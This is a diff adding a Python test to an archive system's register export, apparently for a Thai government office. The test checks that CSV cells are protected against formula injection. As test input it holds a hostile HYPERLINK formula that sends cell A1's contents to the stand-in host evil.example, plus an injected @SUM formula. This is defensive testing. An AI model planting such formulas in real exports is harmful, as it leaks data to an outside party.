@@ -91,6 +91,23 @@ def test_incoming_register_csv(filled):
     ]
 
 
+def test_no_register_cell_becomes_a_spreadsheet_formula(archive):
+    """Senders and subjects are typed by people outside the office: a cell that starts
+    like a formula (=, +, -, @) keeps a leading quote in the CSV."""
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"ดูรายละเอียด")'
+    archive.receive(
+        ARCHIVE_UNIT,
+        sender="@SUM(1+1)",
+        recipient="ผู้ว่าราชการจังหวัดหนองคาย",
+        subject=hostile,
+        received_at=dt.datetime(2025, 1, 9, 10, 30).astimezone(),
+        actor="clerk",
+    )
+    rows = read_csv(write_table(incoming_register(archive, *JAN), "csv"))
+    assert rows[1][4] == "'@SUM(1+1)" and rows[1][6] == "'" + hostile
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)
+
+
 def test_register_as_docx_table(filled):
     archive, _ = filled
     document = Document(io.BytesIO(write_table(outgoing_register(archive, *JAN), "docx")))
